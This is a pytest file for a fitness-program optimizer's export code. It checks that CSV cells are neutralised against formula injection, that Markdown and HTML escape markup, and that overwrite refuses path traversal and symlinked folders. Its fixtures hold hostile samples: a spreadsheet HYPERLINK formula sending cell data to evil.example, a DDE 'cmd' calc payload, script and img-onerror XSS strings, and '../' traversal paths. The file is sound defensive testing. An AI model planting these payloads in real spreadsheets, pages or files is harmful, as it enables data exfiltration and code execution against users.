"""Safe outputs (issue 16, reproductions 9 and 11): CSV cells that a spreadsheet would run as a
formula are neutralised, Markdown escapes HTML and table pipes, written files follow the umask,
and `--overwrite` deletes only what the batch wrote and refuses symlinked folders."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from optimizer import InputError, load_catalog
from optimizer.batch import plan_many
from optimizer.batch.output import BatchFolder
from optimizer.export import to_csv, to_html, to_markdown, write_outputs
from optimizer.export.csv_safe import csv_cell

from helpers import ROOT, solve_checked

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NAMES = {  # exercise id -> a hostile name from a shared catalog
    "leg_extension": FORMULA,
    "leg_press": "+cmd|' /C calc'!A0",
    "barbell_curl": "<script>alert(1)</script> a|b",
    "dumbbell_biceps_curl": '<img src=x onerror="alert(2)">',
}
CLIENT = {
    "client": "eve",
    "days": ["mon", "thu"],
    "targets": {"quads": 4, "biceps": 4},
    "require": sorted(NAMES),
    "solver": {"time_limit": 30},
}


@pytest.fixture(scope="module")
def hostile_catalog(tmp_path_factory) -> Path:
    """The bundled catalog with a few names a stranger might type."""
    with (ROOT / "models" / "exercises.csv").open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        fields = list(reader.fieldnames or [])
        rows = list(reader)
    assert set(NAMES) <= {row["id"] for row in rows}
    for row in rows:
        row["name"] = NAMES.get(row["id"], row["name"])
    path = tmp_path_factory.mktemp("catalog") / "exercises.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=fields, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    return path


@pytest.fixture(scope="module")
def hostile_program(hostile_catalog):
    book = load_catalog(hostile_catalog)
    from optimizer.constraints import parse_constraints

    return solve_checked(parse_constraints(CLIENT, book.vocabulary), book)


def _dangerous(text: str) -> bool:
    return text[:1] in ("=", "+", "-", "@", "\t", "\r")


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# -- CSV (reproduction 11) -----------------------------------------------------------------------


def test_the_cell_rule():
    assert csv_cell(FORMULA) == "'" + FORMULA
    for text in ("+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-inf", "=1"):
        assert csv_cell(text) == "'" + text
    for value in ("Leg press", "", "'=already", "10-20", -1.5, 3, None):
        assert csv_cell(value) == value
    for number in ("-1.5", "+2", "-3e5", "-.5"):  # a number is never a formula
        assert csv_cell(number) == number
    assert csv_cell(csv_cell(FORMULA)) == csv_cell(FORMULA)


def test_the_program_csv_neutralises_formulas_and_keeps_numbers(hostile_program):
    rows = _rows(to_csv(hostile_program))
    names = {row["id"]: row["name"] for row in rows}
    assert names["leg_extension"] == "'" + FORMULA
    assert names["leg_press"] == "'" + NAMES["leg_press"]
    assert names["barbell_curl"] == NAMES["barbell_curl"]  # nothing to neutralise
    assert not [v for row in rows for v in row.values() if _dangerous(v)]
    assert all(float(row["minutes"]) > 0 and int(row["sets"]) > 0 for row in rows)


def test_summary_cells_are_neutralised_but_numbers_stay_numbers(tmp_path):
    folder = BatchFolder(tmp_path)
    folder.write_summary(
        [
            {
                "client": "a",
                "source": "@evil.yaml",
                "status": "invalid_input",
                "objective": -1.5,
                "gap": -2.0,
                "field": "-x",
                "error": FORMULA,
            }
        ]
    )
    (row,) = _rows((tmp_path / "summary.csv").read_text(encoding="utf-8"))
    assert row["source"] == "'@evil.yaml"
    assert row["field"] == "'-x"
    assert row["error"] == "'" + FORMULA
    assert row["objective"] == "-1.5" and row["gap"] == "-2"


def test_batch_csvs_neutralise_catalog_names(tmp_path, hostile_catalog):
    out = tmp_path / "out"
    batch = plan_many([CLIENT], out, catalog=hostile_catalog, engine="serial")
    assert batch.ok, batch.describe()
    for path in (out / "programs.csv", out / "clients" / "eve.csv", out / "summary.csv"):
        rows = _rows(path.read_text(encoding="utf-8"))
        assert rows, path
        assert not [v for row in rows for v in row.values() if _dangerous(v)], path
    programs = _rows((out / "programs.csv").read_text(encoding="utf-8"))
    assert "'" + FORMULA in {row["name"] for row in programs}


# -- Markdown and HTML (reproduction 11) ---------------------------------------------------------


def test_markdown_escapes_html_and_table_pipes(hostile_program):
    page = to_markdown(hostile_program)
    assert "<script" not in page and "<img" not in page
    assert "&lt;script&gt;" in page and "&lt;img" in page
    header = "| # | exercise | sets x reps | RIR | rest | min | intensity | pre-exhausts | notes |"
    assert header in page
    width = header.count("|")
    for line in page.splitlines():
        if line.startswith("| ") and "exercise" not in line and "muscle" not in line:
            cells = line.replace("\\|", "").count("|")
            assert cells in (width, 6), line  # the day tables, then the volume table
    assert FORMULA.replace("&", "&amp;") in page  # the name is still readable


def test_the_html_page_still_escapes(hostile_program):
    page = to_html(hostile_program)
    assert "<script" not in page and "<img" not in page
    assert "&lt;script&gt;" in page


# -- file modes ----------------------------------------------------------------------------------


@pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")
@pytest.mark.parametrize("umask", [0o022, 0o002, 0o077])
def test_written_files_follow_the_umask(tmp_path, hostile_program, umask):
    old = os.umask(umask)
    try:
        paths = write_outputs(hostile_program, tmp_path / "out")
    finally:
        os.umask(old)
    assert len(paths) == 4
    for path in paths:
        assert stat.S_IMODE(path.stat().st_mode) == 0o666 & ~umask, path
    assert not list((tmp_path / "out").glob(".*"))  # no temp file left


# -- --overwrite (reproduction 9) ----------------------------------------------------------------

QUICK = [{"client": "a", "days": ["mon"], "targets": {"quads": 4}, "solver": {"time_limit": 30}}]


def test_overwrite_deletes_only_what_the_batch_wrote(tmp_path):
    out = tmp_path / "out"
    plan_many(QUICK, out, engine="serial")
    record = json.loads((out / "records" / "a.json").read_text(encoding="utf-8"))
    assert sorted(record["files"]) == sorted(
        f"clients/a{s}" for s in (".csv", ".md", ".html", ".json")
    )
    (out / "clients" / "notes.txt").write_text("coach's notes", encoding="utf-8")
    (out / "records" / "README").write_text("mine", encoding="utf-8")
    (out / "clients" / "bob.csv").write_text("not a batch file", encoding="utf-8")
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    hostile = {"client": "zz", "status": "optimal", "fingerprint": "x"}
    hostile["files"] = ["../../victim.txt", "../summary.csv", "clients/notes.txt"]
    (out / "records" / "zz.json").write_text(json.dumps(hostile), encoding="utf-8")

    second = [{**QUICK[0], "client": "b"}]
    plan_many(second, out, engine="serial", overwrite=True)
    assert (out / "clients" / "notes.txt").read_text(encoding="utf-8") == "coach's notes"
    assert (out / "records" / "README").read_text(encoding="utf-8") == "mine"
    assert (out / "clients" / "bob.csv").read_text(encoding="utf-8") == "not a batch file"
    assert victim.read_text(encoding="utf-8") == "keep me"
    assert not list((out / "clients").glob("a.*"))
    assert sorted(p.name for p in (out / "records").glob("*.json")) == ["b.json"]


@pytest.mark.skipif(os.name != "posix", reason="symlinks")
@pytest.mark.parametrize("linked", ["clients", "records", "."])
def test_symlinked_output_folders_are_refused(tmp_path, linked):
    out = tmp_path / "out"
    plan_many(QUICK, out, engine="serial")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "precious.txt").write_text("keep", encoding="utf-8")
    if linked == ".":
        target = tmp_path / "link"
        target.symlink_to(out, target_is_directory=True)
    else:
        target = out
        (out / linked).rename(tmp_path / f"old-{linked}")
        (out / linked).symlink_to(elsewhere, target_is_directory=True)
    for options in ({"overwrite": True}, {"resume": True}):
        with pytest.raises(InputError, match="symbolic link"):
            plan_many(QUICK, target, engine="serial", **options)
    assert [p.name for p in elsewhere.iterdir()] == ["precious.txt"]


@pytest.mark.skipif(os.name != "posix", reason="symlinks")
def test_the_cli_refuses_a_symlinked_clients_folder_in_one_line(tmp_path):
    sheet = tmp_path / "c.csv"
    sheet.write_text("client,days,targets,time_limit\na,mon,quads:4,30\n", encoding="utf-8")
    out = tmp_path / "out"
    (out / "records").mkdir(parents=True)
    (out / "summary.csv").write_text("client\n", encoding="utf-8")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "notes.txt").write_text("keep", encoding="utf-8")
    (out / "clients").symlink_to(elsewhere, target_is_directory=True)
    command = [sys.executable, "-m", "optimizer", "batch", str(sheet), "--out", str(out)]
    done = subprocess.run(
        [*command, "--overwrite", "--engine", "serial", "--no-progress"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    lines = [line for line in done.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and "symbolic link" in lines[0], done.stderr
    assert (elsewhere / "notes.txt").read_text(encoding="utf-8") == "keep"
